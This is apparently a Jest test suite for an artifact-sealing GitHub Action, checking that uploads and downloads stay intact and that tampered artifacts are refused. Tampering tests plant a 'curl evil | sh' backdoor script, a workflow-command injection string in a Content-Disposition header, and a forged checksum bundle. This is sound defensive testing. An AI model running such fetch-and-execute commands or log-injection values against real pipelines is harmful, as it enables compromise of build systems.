import { afterAll, beforeAll, describe, expect, it } from '@jest/globals'
import { randomBytes } from 'node:crypto'
import * as fs from 'node:fs'
import * as path from 'node:path'
import { buildContextFromEnv } from '../../../src/app/settings/runner-environment.js'
import type { Digest } from '../../../src/core/digest.js'
import { SealError } from '../../../src/core/errors.js'
import { parseListing } from '../../../src/core/listing.js'
import { type SealedArtifact, sealSubject } from '../../../src/core/seal.js'
import { buildStatement, statementSubject } from '../../../src/core/statement.js'
import { LocalDirectoryStore } from '../../../src/stores/evidence/local-directory.js'
import type { SealBundleLocation } from '../../../src/stores/evidence/seal-bundle.js'
import { type GitHubApiHost, startGitHubApiHost } from '../../hosts/github-api-host.js'
import {
  type JobSpec,
  type ResultsServiceHost,
  startResultsServiceHost
} from '../../hosts/results-service-host.js'
import { captureStdout, inJob } from '../../hosts/results/job-env.js'
import { removeAll, shellTreeDigest, tempDir, writeTree } from '../../helpers/trees.js'
import { readZip, writeZipEntries } from '../../hosts/results/zip.js'

// @actions/github fixes its API base URL (GITHUB_API_URL) when first imported, so the
// store, which imports it through @actions/artifact, is imported once the hosts run.
let results: ResultsServiceHost
let github: GitHubApiHost
let store: typeof import('../../../src/stores/evidence/workflow-artifact.js')
let verify: typeof import('../../../src/app/verify/download-and-verify.js')
const stdout = captureStdout()
const savedApiUrl = process.env.GITHUB_API_URL
const REPOSITORY = 'acme/shop'
const BUILD = buildContextFromEnv({})

beforeAll(async () => {
  results = await startResultsServiceHost()
  github = await startGitHubApiHost({ artifactSource: results.artifactSource })
  github.addToken('ghs_no-actions', { deployments: 'write', actions: 'none' })
  process.env.GITHUB_API_URL = github.url
  results.setGitHubApiUrl(github.url)
  store = await import('../../../src/stores/evidence/workflow-artifact.js')
  verify = await import('../../../src/app/verify/download-and-verify.js')
})

afterAll(async () => {
  stdout.restore()
  if (savedApiUrl === undefined) delete process.env.GITHUB_API_URL
  else process.env.GITHUB_API_URL = savedApiUrl
  await github?.close()
  await results?.close()
  removeAll()
})

let nextRun = 7000
const newRun = (): number => nextRun++

/** A job's step: the runner's variables in process.env, a workspace and a RUNNER_TEMP of its own. */
function job<T>(
  spec: JobSpec,
  fn: (dirs: { workspace: string; temp: string }) => Promise<T>
): Promise<T> {
  const dirs = { workspace: tempDir('workspace-'), temp: tempDir('runner-temp-') }
  return inJob(
    results,
    { repository: REPOSITORY, ...spec, workspace: dirs.workspace, runnerTemp: dirs.temp },
    () => fn(dirs)
  )
}

interface Sealed {
  readonly artifact: SealedArtifact
  readonly bundle: SealBundleLocation
  readonly root: string
  readonly paths: string[]
}

/** Seals a build directory (leaving out *.log) and writes its bundle, as the seal action does. */
async function sealBuild(
  workspace: string,
  files: Record<string, string | Buffer> = BUILD_FILES
): Promise<Sealed> {
  const root = writeTree(path.join(workspace, 'dist'), files)
  const artifact = await sealSubject(
    {
      kind: 'paths',
      patterns: { include: [root], exclude: ['**/*.log'] },
      baseDir: workspace,
      inputName: 'subject-path'
    },
    { fallbackName: 'dist', build: BUILD, name: 'shop' }
  )
  const bundle = await new LocalDirectoryStore(
    path.join(workspace, '.seal', 'shop'),
    'output-dir'
  ).putSealBundle(artifact)
  return {
    artifact,
    bundle,
    root,
    paths: parseListing(artifact.listing.toString('utf8'), 'listing').map((e) => e.path)
  }
}

const BUILD_FILES: Record<string, string | Buffer> = {
  'index.html': '<html>shop</html>\n',
  'assets/app.js': 'console.log("shop")\n',
  'assets/app.css': 'body { margin: 0 }\n',
  'api/openapi.yaml': 'openapi: 3.1.0\n',
  'build.log': 'not sealed\n'
}

async function uploadIn(
  runId: number,
  name: string,
  withFiles = true,
  files: Record<string, string | Buffer> = BUILD_FILES
): Promise<{
  sealed: Sealed
  uploaded: import('../../../src/stores/evidence/workflow-artifact.js').UploadedArtifact
}> {
  return job({ runId, jobId: 'build' }, async ({ workspace }) => {
    const sealed = await sealBuild(workspace, files)
    const uploaded = await new store.WorkflowArtifactStore().upload({
      name,
      bundle: sealed.bundle,
      files: withFiles ? { root: sealed.root, paths: sealed.paths } : null,
      retentionDays: 5
    })
    return { sealed, uploaded }
  })
}

async function failure(promise: Promise<unknown>): Promise<SealError> {
  try {
    await promise
  } catch (error) {
    if (error instanceof SealError) return error
    throw error
  }
  throw new Error('expected a SealError')
}

function filesUnder(dir: string): string[] {
  return (fs.readdirSync(dir, { recursive: true, withFileTypes: true }) as fs.Dirent[])
    .filter((e) => e.isFile())
    .map((e) => path.relative(dir, path.join(e.parentPath, e.name)).split(path.sep).join('/'))
    .sort()
}

describe('uploading and downloading in one workflow run', () => {
  it('uploads the bundle and exactly the sealed files; a later job downloads them', async () => {
    const runId = newRun()
    const { sealed, uploaded } = await uploadIn(runId, 'shop-sealed')

    expect(uploaded).toEqual({
      id: expect.any(Number),
      name: 'shop-sealed',
      size: expect.any(Number),
      digest: expect.stringMatching(/^sha256:[0-9a-f]{64}$/),
      reused: false,
      retentionDays: 5,
      retentionLimit: 90
    })
    const hosted = results.artifacts().find((a) => a.id === uploaded.id)
    expect(hosted).toMatchObject({
      name: 'shop-sealed',
      runId,
      size: uploaded.size,
      digest: uploaded.digest,
      expired: false
    })
    expect(
      Date.parse(hosted?.expiresAt ?? '') - Date.parse(hosted?.createdAt ?? '')
    ).toBeGreaterThan(4.9 * 86_400_000)

    const downloaded = await job({ runId, jobId: 'deploy' }, async ({ temp }) => {
      return new store.WorkflowArtifactStore().download({ name: 'shop-sealed', parent: temp })
    })
    expect(downloaded).toMatchObject({
      id: uploaded.id,
      name: 'shop-sealed',
      runId: null,
      digest: uploaded.digest,
      digestMatched: true
    })
    expect(filesUnder(downloaded.dir)).toEqual([
      'files/api/openapi.yaml',
      'files/assets/app.css',
      'files/assets/app.js',
      'files/index.html',
      'seal/shop.intoto.json',
      'seal/shop.modes.json',
      'seal/shop.sha256'
    ])
    expect(downloaded.filesDir).toBe(path.join(downloaded.dir, 'files'))
    expect(fs.readFileSync(downloaded.checksumsPath)).toEqual(sealed.artifact.listing)
    expect(fs.readFileSync(downloaded.statementPath, 'utf8')).toBe(
      fs.readFileSync(sealed.bundle.statementPath, 'utf8')
    )
    expect(shellTreeDigest(downloaded.filesDir as string)).toBe(sealed.artifact.digest)
    // A private directory under the runner's temp directory, that only this user can enter.
    expect(fs.statSync(downloaded.dir).mode & 0o777).toBe(0o700)
  })

  it('names outside ASCII and long names round trip: the uploader marks them UTF-8', async () => {
    const runId = newRun()
    const long = `${'d'.repeat(120)}/${'f'.repeat(150)}.js`
    const { sealed } = await uploadIn(runId, 'shop-unicode', true, {
      ...BUILD_FILES,
      'ünïcødé/ファイル.txt': 'unicode\n',
      [long]: 'long\n'
    })
    const downloaded = await job({ runId, jobId: 'deploy' }, ({ temp }) =>
      new store.WorkflowArtifactStore().download({ name: 'shop-unicode', parent: temp })
    )
    expect(filesUnder(downloaded.filesDir as string)).toEqual(
      expect.arrayContaining(['ünïcødé/ファイル.txt', long])
    )
    expect(shellTreeDigest(downloaded.filesDir as string)).toBe(sealed.artifact.digest)
  })

  it('carries the bundle alone when asked', async () => {
    const runId = newRun()
    await uploadIn(runId, 'shop-bundle', false)
    const downloaded = await job({ runId, jobId: 'deploy' }, ({ temp }) =>
      new store.WorkflowArtifactStore().download({ name: 'shop-bundle', parent: temp })
    )
    expect(downloaded.filesDir).toBeNull()
    expect(filesUnder(downloaded.dir)).toEqual([
      'seal/shop.intoto.json',
      'seal/shop.modes.json',
      'seal/shop.sha256'
    ])
  })

  it('refuses a name that already exists in the run with another seal: artifacts are immutable', async () => {
    const runId = newRun()
    const { uploaded: first } = await uploadIn(runId, 'shop-once')
    // The same seal again (a job run again) is the artifact already there.
    const { uploaded: again } = await uploadIn(runId, 'shop-once')
    expect(again).toMatchObject({ id: first.id, reused: true, digest: first.digest })
    const error = await failure(
      uploadIn(runId, 'shop-once', true, { ...BUILD_FILES, 'index.html': '<html>other</html>\n' })
    )
    expect(error).toMatchObject({ code: 'conflict' })
    expect(error.message).toMatch(
      /^name: an artifact named "shop-once" already exists in this workflow run and holds another seal/
    )
    expect(error.message).toMatch(/immutable.*Choose another name/)
    // The same name in another run is another artifact.
    await expect(uploadIn(newRun(), 'shop-once')).resolves.toBeDefined()
  })

  it('refuses a name the artifact service cannot hold before any request', async () => {
    results.clearRequests()
    const error = await failure(uploadIn(newRun(), 'shop/v1'))
    expect(error.message).toBe(
      'name: "shop/v1" contains "/", which a workflow artifact name cannot hold (nor " : < > | * ? \\ / or ' +
        'line breaks). Choose a name without them.'
    )
    expect(results.requests).toEqual([])
  })

  it('refuses, before any request, files the artifact service cannot carry and files gone since the seal', async () => {
    results.clearRequests()
    await job({ runId: newRun(), jobId: 'build' }, async ({ workspace }) => {
      const sealed = await sealBuild(workspace, { ...BUILD_FILES, 'notes:v1.txt': 'colon' })
      const upload = (paths: string[], retentionDays?: number): Promise<unknown> =>
        new store.WorkflowArtifactStore().upload({
          name: 'shop',
          bundle: sealed.bundle,
          files: { root: sealed.root, paths },
          ...(retentionDays === undefined ? {} : { retentionDays })
        })
      expect((await failure(upload(sealed.paths))).message).toMatch(
        /^The file "notes:v1.txt" cannot travel in a workflow artifact: its path contains ":"/
      )
      const kept = sealed.paths.filter((p) => p !== 'notes:v1.txt')
      fs.rmSync(path.join(sealed.root, 'index.html'))
      expect((await failure(upload(kept))).message).toMatch(
        /^Cannot upload the sealed file "index.html" under ".*": it no longer exists\. The files changed after they were sealed/
      )
      expect((await failure(upload(kept, 0))).message).toMatch(
        /^retention-days: "0" is not a number of days/
      )
      expect(fs.readdirSync(path.join(process.env.RUNNER_TEMP as string))).toEqual([])
    })
    expect(results.requests).toEqual([])
  })

  it('says when no artifact has the name, and leaves no directory', async () => {
    const runId = newRun()
    await uploadIn(runId, 'shop-here')
    await job({ runId, jobId: 'deploy' }, async ({ workspace, temp }) => {
      const error = await failure(
        new store.WorkflowArtifactStore().download({ name: 'shop-elsewhere', parent: temp })
      )
      expect(error.message).toMatch(
        /^name: there is no artifact named "shop-elsewhere" in this workflow run\. Upload it in an earlier job/
      )
      expect([fs.readdirSync(workspace), fs.readdirSync(temp)]).toEqual([[], []])
    })
  })

  it('says an expired artifact is not listed any more', async () => {
    const runId = newRun()
    const { uploaded } = await uploadIn(runId, 'shop-short-lived')
    await results.expireArtifact(uploaded.id)
    await job({ runId, jobId: 'deploy' }, async ({ workspace, temp }) => {
      const error = await failure(
        new store.WorkflowArtifactStore().download({ name: 'shop-short-lived', parent: temp })
      )
      expect(error.message).toMatch(
        /no artifact named "shop-short-lived" in this workflow run.*expired/
      )
      expect([fs.readdirSync(workspace), fs.readdirSync(temp)]).toEqual([[], []])
    })
  })

  it('refuses a directory for downloads inside the workspace, before any request', async () => {
    const runId = newRun()
    await uploadIn(runId, 'shop-not-here')
    results.clearRequests()
    await job({ runId, jobId: 'deploy' }, async ({ workspace }) => {
      const error = await failure(
        new store.WorkflowArtifactStore().download({
          name: 'shop-not-here',
          parent: path.join(workspace, 'incoming')
        })
      )
      expect(error.message).toMatch(
        /^path: the directory for downloads, ".*incoming", is inside the workspace ".*"\. Nothing from a carrier is unpacked in the workspace/
      )
      expect(fs.readdirSync(path.join(workspace, 'incoming'))).toEqual([])
    })
    expect(results.requests).toEqual([])
  })
})

describe('downloading from another workflow run', () => {
  // (The client's octokit logs each 4xx answer with console.error, bound when octokit
  // loads: the three lines in the test output are expected.)
  it('finds the artifact through the REST API with a token', async () => {
    const runId = newRun()
    const { sealed, uploaded } = await uploadIn(runId, 'shop-release')
    const downloaded = await job({ runId: newRun(), jobId: 'deploy' }, ({ temp }) =>
      new store.WorkflowArtifactStore().download({
        name: 'shop-release',
        runId,
        token: github.token,
        parent: temp
      })
    )
    expect(downloaded).toMatchObject({
      id: uploaded.id,
      runId,
      digest: uploaded.digest,
      digestMatched: true
    })
    expect(shellTreeDigest(downloaded.filesDir as string)).toBe(sealed.artifact.digest)
  })

  it("asks for the zip's URL through the GitHub client: its API version, and a rate limit waited out", async () => {
    const runId = newRun()
    const { uploaded } = await uploadIn(runId, 'shop-limited')
    const zipPath = `/repos/acme/shop/actions/artifacts/${uploaded.id}/zip`
    github.inject({
      path: zipPath,
      kind: 'secondary-rate-limit',
      status: 429,
      retryAfterSeconds: 0
    })
    const downloaded = await job({ runId: newRun(), jobId: 'deploy' }, ({ temp }) =>
      new store.WorkflowArtifactStore().download({
        name: 'shop-limited',
        runId,
        token: github.token,
        parent: temp
      })
    )
    expect(downloaded).toMatchObject({ id: uploaded.id, digestMatched: true })
    const asked = github.requests.filter((r) => r.canonicalPath === zipPath)
    expect(asked.map((r) => [r.status, r.fault])).toEqual([
      [429, 'secondary-rate-limit'],
      [302, null]
    ])
    expect(asked.map((r) => r.headers['x-github-api-version'])).toEqual([
      '2022-11-28',
      '2022-11-28'
    ])
    expect(asked[1]?.headers['user-agent']).toMatch(/^artifact-seal\//)
  })

  it('names run-id when the run does not exist', async () => {
    await job({ runId: newRun(), jobId: 'deploy' }, async ({ workspace, temp }) => {
      const error = await failure(
        new store.WorkflowArtifactStore().download({
          name: 'shop',
          runId: 999_999,
          token: github.token,
          parent: temp
        })
      )
      expect(error.message).toMatch(
        /^run-id: workflow run 999999 was not found in acme\/shop \(404\)/
      )
      expect([fs.readdirSync(workspace), fs.readdirSync(temp)]).toEqual([[], []])
    })
  })

  it('names github-token and actions: read when the token may not read artifacts', async () => {
    const runId = newRun()
    await uploadIn(runId, 'shop-private')
    await job({ runId: newRun(), jobId: 'deploy' }, async ({ workspace, temp }) => {
      const download = (token?: string): Promise<unknown> =>
        new store.WorkflowArtifactStore().download({
          name: 'shop-private',
          runId,
          ...(token === undefined ? {} : { token }),
          parent: temp
        })
      expect((await failure(download('ghs_no-actions'))).message).toMatch(
        /^github-token: the token may not read the workflow artifacts of acme\/shop \(403 .*"actions: read"/
      )
      expect((await failure(download('ghs_unknown'))).message).toMatch(
        /^github-token: GitHub refused the token \(401/
      )
      expect((await failure(download())).message).toMatch(
        /^github-token: downloading the artifact "shop-private" from another workflow run \(run-id \d+\) needs a token/
      )
      expect([fs.readdirSync(workspace), fs.readdirSync(temp)]).toEqual([[], []])
    })
  })

  it('says the artifact has expired', async () => {
    const runId = newRun()
    const { uploaded } = await uploadIn(runId, 'shop-old')
    await results.expireArtifact(uploaded.id)
    await job({ runId: newRun(), jobId: 'deploy' }, async ({ workspace, temp }) => {
      const error = await failure(
        new store.WorkflowArtifactStore().download({
          name: 'shop-old',
          runId,
          token: github.token,
          parent: temp
        })
      )
      expect(error.message).toMatch(
        new RegExp(
          `^name: the artifact "shop-old" in workflow run ${runId} of acme/shop has expired`
        )
      )
      expect([fs.readdirSync(workspace), fs.readdirSync(temp)]).toEqual([[], []])
    })
  })
})

describe('bytes that are not the uploaded ones', () => {
  it('fails a download whose zip differs from the recorded digest', async () => {
    const runId = newRun()
    const { uploaded } = await uploadIn(runId, 'shop-tampered-zip')
    await results.tamperArtifactBlob(uploaded.id, (files) => {
      files.set('files/index.html', Buffer.from('<html>pwned</html>\n'))
    })
    await job({ runId, jobId: 'deploy' }, async ({ workspace, temp }) => {
      const error = await failure(
        new store.WorkflowArtifactStore().download({ name: 'shop-tampered-zip', parent: temp })
      )
      expect(error.message).toMatch(
        /^name: the artifact "shop-tampered-zip" \(id \d+ in this workflow run\) arrived with other bytes than were uploaded/
      )
      expect([fs.readdirSync(workspace), fs.readdirSync(temp)]).toEqual([[], []])
    })
  })

  it('downloadAndVerify names each file that differs from the seal and deletes the download', async () => {
    const runId = newRun()
    const { sealed, uploaded } = await uploadIn(runId, 'shop-tampered')
    await results.tamperArtifactBlob(uploaded.id, (files) => {
      files.set('files/assets/app.js', Buffer.from('steal()\n'))
      files.delete('files/api/openapi.yaml')
    })
    await job({ runId, jobId: 'deploy' }, async ({ workspace, temp }) => {
      const error = await failure(
        verify.downloadAndVerify(
          new store.WorkflowArtifactStore(),
          { name: 'shop-tampered', parent: temp, expected: sealed.artifact.digest },
          { build: BUILD }
        )
      )
      expect(error.message).toBe(
        `name: the files of the artifact "shop-tampered" are not the sealed files of ${sealed.artifact.digest}: 1 changed, 1 missing, 0 added:\n` +
          '  missing api/openapi.yaml\n' +
          '  changed assets/app.js\n' +
          ('The download was deleted. Do not deploy these files: find out who changed the stored artifact, then ' +
            'seal and upload the build again.')
      )
      expect([fs.readdirSync(workspace), fs.readdirSync(temp)]).toEqual([[], []])
    })
  })

  it('a file the sealed listing does not name is refused before anything is extracted', async () => {
    const runId = newRun()
    const { sealed, uploaded } = await uploadIn(runId, 'shop-added')
    await results.tamperArtifactBlob(uploaded.id, (files) => {
      files.set('files/backdoor.sh', Buffer.from('curl evil | sh\n'))
    })
    await job({ runId, jobId: 'deploy' }, async ({ workspace, temp }) => {
      const error = await failure(
        verify.downloadAndVerify(
          new store.WorkflowArtifactStore(),
          { name: 'shop-added', parent: temp, expected: sealed.artifact.digest },
          { build: BUILD }
        )
      )
      expect(error).toMatchObject({ code: 'refused' })
      expect((error as SealError).details.refusals).toEqual([
        { name: 'files/backdoor.sh', reason: 'not in the sealed listing' }
      ])
      expect(error.message).toMatch(
        /^name: refused the artifact "shop-added" \(id \d+ in this workflow run\) before extracting anything: 1 entry is not what a seal puts there:\n {2}"files\/backdoor\.sh": not in the sealed listing\nNothing was extracted, and the download was deleted\./
      )
      expect([fs.readdirSync(workspace), fs.readdirSync(temp)]).toEqual([[], []])
    })
  })

  it('downloadAndVerify proves intact files against the expected digest, and refuses another digest', async () => {
    const runId = newRun()
    const { sealed } = await uploadIn(runId, 'shop-intact')
    await job({ runId, jobId: 'deploy' }, async ({ workspace, temp }) => {
      const verified = await verify.downloadAndVerify(
        new store.WorkflowArtifactStore(),
        { name: 'shop-intact', parent: temp, expected: sealed.artifact.digest },
        { build: BUILD }
      )
      expect(verified).toMatchObject({ digest: sealed.artifact.digest, fileCount: 4 })
      const other = `sha256:${'0'.repeat(64)}` as Digest
      const error = await failure(
        verify.downloadAndVerify(
          new store.WorkflowArtifactStore(),
          { name: 'shop-intact', parent: temp, expected: other },
          { build: BUILD }
        )
      )
      expect(error.message).toMatch(
        new RegExp(
          `^digest: the seal bundle in the artifact "shop-intact" is the listing of ${sealed.artifact.digest}, ` +
            `not of ${other}\\.`
        )
      )
      // The first download is kept (it verified); the refused one is gone.
      expect([fs.readdirSync(workspace), fs.readdirSync(path.join(temp))]).toEqual([
        [],
        [path.basename(verified.artifact.dir)]
      ])
    })
  })

  it('downloadAndVerify verifies a single sealed file, whose digest is its own sha256', async () => {
    const runId = newRun()
    const sealed = await job({ runId, jobId: 'build' }, async ({ workspace }) => {
      const file = path.join(
        writeTree(path.join(workspace, 'out'), { 'shop.tgz': randomBytes(5000) }),
        'shop.tgz'
      )
      const artifact = await sealSubject(
        {
          kind: 'paths',
          patterns: { include: [file], exclude: [] },
          baseDir: workspace,
          inputName: 'subject-path'
        },
        { fallbackName: 'x', build: BUILD }
      )
      const bundle = await new LocalDirectoryStore(
        path.join(workspace, '.seal'),
        'output-dir'
      ).putSealBundle(artifact)
      await new store.WorkflowArtifactStore().upload({
        name: 'shop-tgz',
        bundle,
        files: { root: path.dirname(file), paths: ['shop.tgz'] }
      })
      expect(artifact.kind).toBe('file')
      return artifact
    })
    await job({ runId, jobId: 'deploy' }, async ({ temp }) => {
      const request = { name: 'shop-tgz', parent: temp }
      const withExpected = await verify.downloadAndVerify(
        new store.WorkflowArtifactStore(),
        { ...request, expected: sealed.digest },
        { build: BUILD }
      )
      expect(withExpected).toMatchObject({
        digest: sealed.digest,
        fileCount: 1,
        kind: 'file',
        path: path.join(withExpected.artifact.dir, 'files', 'shop.tgz')
      })
      expect(path.dirname(withExpected.artifact.dir)).toBe(temp)
      const inferred = await verify.downloadAndVerify(
        new store.WorkflowArtifactStore(),
        { ...request, parent: temp },
        { build: BUILD }
      )
      expect(inferred.digest).toBe(sealed.digest)
    })
  })

  it("downloadAndVerify refuses a forged bundle that passes a tree's listing off as one sealed file", async () => {
    const runId = newRun()
    const tree = await job({ runId, jobId: 'build' }, async ({ workspace }) => {
      const sealed = await sealBuild(workspace)
      // The forgery: a one-line listing and a file statement naming the tree's digest, and
      // as the "file" the tree's own listing, whose sha256 is that digest.
      const forged = writeTree(path.join(workspace, 'forged'), {
        'files/site': sealed.artifact.listing
      })
      const hex = sealed.artifact.digest.slice('sha256:'.length)
      const bundle = {
        dir: forged,
        checksumsPath: path.join(
          writeTree(forged, { 'site.sha256': `${hex}  site\n` }),
          'site.sha256'
        ),
        statementPath: path.join(
          writeTree(forged, {
            'site.intoto.json': JSON.stringify(
              buildStatement([statementSubject('site', sealed.artifact.digest, false)], BUILD)
            )
          }),
          'site.intoto.json'
        ),
        sigstoreBundlePath: null
      }
      await new store.WorkflowArtifactStore().upload({
        name: 'shop-forged',
        bundle,
        files: { root: path.join(forged, 'files'), paths: ['site'] }
      })
      return sealed.artifact
    })
    await job({ runId, jobId: 'deploy' }, async ({ workspace, temp }) => {
      const error = await failure(
        verify.downloadAndVerify(
          new store.WorkflowArtifactStore(),
          { name: 'shop-forged', parent: temp, expected: tree.digest },
          { build: BUILD }
        )
      )
      expect(error.message).toContain(
        `is one file whose bytes are a checksums listing of 4 files, so its sha256 ${tree.digest} is also the ` +
          'digest of the tree it lists'
      )
      expect(error.message).toContain(
        'A seal never seals a listing as one file, so the seal bundle in the artifact "shop-forged" does not ' +
          'come from a seal of these bytes.'
      )
      expect([fs.readdirSync(workspace), fs.readdirSync(temp)]).toEqual([[], []])
    })
  })

  it('a download cut short between files: the recorded digest catches it, nothing is kept', async () => {
    const runId = newRun()
    await uploadIn(runId, 'shop-cut')
    results.truncateDownloads({ keep: 'whole-entries' })
    try {
      await job({ runId, jobId: 'deploy' }, async ({ workspace, temp }) => {
        const error = await failure(
          new store.WorkflowArtifactStore().download({ name: 'shop-cut', parent: temp })
        )
        expect(error.message).toMatch(
          /arrived with other bytes than were uploaded: its zip does not hash to sha256:[0-9a-f]{64}, the digest recorded at upload\. The download was cut short/
        )
        expect([fs.readdirSync(workspace), fs.readdirSync(temp)]).toEqual([[], []])
      })
    } finally {
      results.truncateDownloads(false)
    }
  })

  // The client's own extraction (which retried five times, 25 s, before giving up) is not
  // used: the zip is saved whole or short, and a short one fails the recorded digest.
  it('a download cut inside a file: the recorded digest catches it, nothing is kept', async () => {
    const runId = newRun()
    // A large file that does not compress puts the middle of the zip inside a file.
    await uploadIn(runId, 'shop-broken', true, {
      ...BUILD_FILES,
      'assets/big.bin': randomBytes(256 * 1024)
    })
    results.truncateDownloads({ keep: 'half' })
    try {
      await job({ runId, jobId: 'deploy' }, async ({ workspace, temp }) => {
        const error = await failure(
          new store.WorkflowArtifactStore().download({ name: 'shop-broken', parent: temp })
        )
        expect(error.message).toMatch(
          /^name: the artifact "shop-broken" \(id \d+ in this workflow run\) arrived with other bytes than were uploaded: its zip does not hash to/
        )
        expect([fs.readdirSync(workspace), fs.readdirSync(temp)]).toEqual([[], []])
      })
    } finally {
      results.truncateDownloads(false)
    }
  })
})

describe('what storage and the zip say is not taken on trust', () => {
  it(
    "storage's Content-Disposition file name never reaches the log nor names the saved zip, in this run and " +
      'from another',
    async () => {
      const runId = newRun()
      const { sealed, uploaded } = await uploadIn(runId, 'shop-disposition')
      const hostile =
        "attachment; filename*=UTF-8''a%0A::stop-commands::pwn%0A::error title=Deployed::production is compromised"
      await results.replaceArtifactZip(uploaded.id, await results.artifactZip(uploaded.id), {
        contentDisposition: hostile
      })
      for (const other of [false, true]) {
        stdout.clear()
        const downloaded = await job(
          { runId: other ? newRun() : runId, jobId: 'deploy' },
          ({ temp }) =>
            new store.WorkflowArtifactStore().download({
              name: 'shop-disposition',
              parent: temp,
              ...(other ? { runId, token: github.token } : {})
            })
        )
        expect(shellTreeDigest(downloaded.filesDir as string)).toBe(sealed.artifact.digest)
        expect(stdout.text()).not.toMatch(/stop-commands|::error|Deployed/)
        expect(
          filesUnder(downloaded.dir).filter(
            (f) => !f.startsWith('files/') && !f.startsWith('seal/')
          )
        ).toEqual([])
      }
    }
  )

  it('keeps the execute bit a zip entry carries, as a tar restore does', async () => {
    const runId = newRun()
    const { uploaded } = await job({ runId, jobId: 'build' }, async ({ workspace }) => {
      const root = writeTree(path.join(workspace, 'dist'), {
        'bin/run.sh': '#!/bin/sh\necho run\n',
        'index.html': 'x\n'
      })
      fs.chmodSync(path.join(root, 'bin/run.sh'), 0o755)
      const artifact = await sealSubject(
        {
          kind: 'paths',
          patterns: { include: [root], exclude: [] },
          baseDir: workspace,
          inputName: 'subject-path'
        },
        { fallbackName: 'dist', build: BUILD, name: 'shop' }
      )
      const bundle = await new LocalDirectoryStore(
        path.join(workspace, '.seal', 'shop'),
        'output-dir'
      ).putSealBundle(artifact)
      const paths = parseListing(artifact.listing.toString('utf8'), 'listing').map((e) => e.path)
      return {
        uploaded: await new store.WorkflowArtifactStore().upload({
          name: 'shop-modes',
          bundle,
          files: { root, paths }
        })
      }
    })
    expect(uploaded.id).toBeGreaterThan(0)
    const downloaded = await job({ runId, jobId: 'deploy' }, ({ temp }) =>
      new store.WorkflowArtifactStore().download({ name: 'shop-modes', parent: temp })
    )
    const modeOf = (rel: string): number =>
      fs.statSync(path.join(downloaded.filesDir as string, rel)).mode & 0o777
    expect([modeOf('bin/run.sh') & 0o111, modeOf('index.html') & 0o111]).toEqual([0o111, 0])
  })

  it(
    'refuses anything under seal/ but the bundle files of the one sealed name and its contract directory, ' +
      'naming each',
    async () => {
      const runId = newRun()
      const { sealed, uploaded } = await uploadIn(runId, 'shop-extra-seal')
      const honest = [...readZip(await results.artifactZip(uploaded.id))].map(
        ([name, content]) => ({
          name,
          content
        })
      )
      const extra = [
        'seal/x/y/payload.sh',
        'seal/shop.sha256.bak',
        'seal/other.sigstore.json',
        'seal/shop.contract.json.d/a',
        'seal/notes.txt'
      ]
      await results.replaceArtifactZip(
        uploaded.id,
        writeZipEntries([
          ...honest,
          ...extra.map((name) => ({ name, content: Buffer.from('#!/bin/sh\n') }))
        ]),
        { recordDigest: true }
      )
      // A contract directory of the sealed name is the bundle's: its files pass.
      await job({ runId, jobId: 'deploy' }, async ({ workspace, temp }) => {
        const error = await failure(
          verify.downloadAndVerify(
            new store.WorkflowArtifactStore(),
            { name: 'shop-extra-seal', parent: temp, expected: sealed.artifact.digest },
            { build: BUILD }
          )
        )
        expect(error).toMatchObject({ code: 'refused' })
        expect(((error as SealError).details.refusals ?? []).map((r) => r.name).sort()).toEqual(
          [...extra].sort()
        )
        expect([fs.readdirSync(workspace), fs.readdirSync(temp)]).toEqual([[], []])
      })
    }
  )

  it("takes a contract directory under the sealed name's own", async () => {
    const runId = newRun()
    const { sealed, uploaded } = await uploadIn(runId, 'shop-contract-dir')
    const honest = [...readZip(await results.artifactZip(uploaded.id))].map(([name, content]) => ({
      name,
      content
    }))
    await results.replaceArtifactZip(
      uploaded.id,
      writeZipEntries([
        ...honest,
        { name: 'seal/shop.contract/api/openapi.yaml', content: Buffer.from('openapi: 3.1.0\n') }
      ]),
      { recordDigest: true }
    )
    const downloaded = await job({ runId, jobId: 'deploy' }, ({ temp }) =>
      new store.WorkflowArtifactStore().download({ name: 'shop-contract-dir', parent: temp })
    )
    expect(filesUnder(downloaded.sealDir)).toEqual([
      'shop.contract/api/openapi.yaml',
      'shop.intoto.json',
      'shop.modes.json',
      'shop.sha256'
    ])
    expect(shellTreeDigest(downloaded.filesDir as string)).toBe(sealed.artifact.digest)
  })
})
